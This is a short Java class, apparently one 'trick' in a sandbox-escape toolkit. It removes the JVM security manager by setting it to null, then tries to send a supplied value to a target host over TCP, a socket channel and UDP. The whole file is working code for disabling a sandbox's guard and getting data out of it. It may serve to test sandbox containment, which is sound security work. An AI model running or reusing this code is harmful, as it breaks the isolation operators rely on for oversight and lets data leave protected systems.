package com.lockroom.escape.tricks;

import com.lockroom.escape.Attempts;
import com.lockroom.escape.Target;
import com.lockroom.escape.Trick;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;

/** Takes the sandbox's security manager away, then connects as any program does. */
public final class Unguarded implements Trick {
    @Override
    public void go(Attempts attempts, Target target, String value) {
        byte[] line = Wire.line("unguarded", value);
        attempts.one("manager", Unguarded::disarm);
        attempts.one("socket", () -> {
            try (Socket socket = new Socket()) {
                socket.connect(new InetSocketAddress(target.host, target.tcp), 2000);
                socket.getOutputStream().write(line);
                return "connected";
            }
        });
        attempts.one("channel", () -> {
            try (SocketChannel channel = SocketChannel.open(new InetSocketAddress(target.host, target.tcp))) {
                return "wrote " + channel.write(ByteBuffer.wrap(line));
            }
        });
        attempts.one("datagram", () -> {
            try (DatagramSocket socket = new DatagramSocket()) {
                socket.send(new DatagramPacket(line, line.length, InetAddress.getByName(target.host), target.udp));
                return "sent";
            }
        });
    }

    /** No security manager any more. */
    static String disarm() {
        System.setSecurityManager(null);
        return "gone";
    }
}
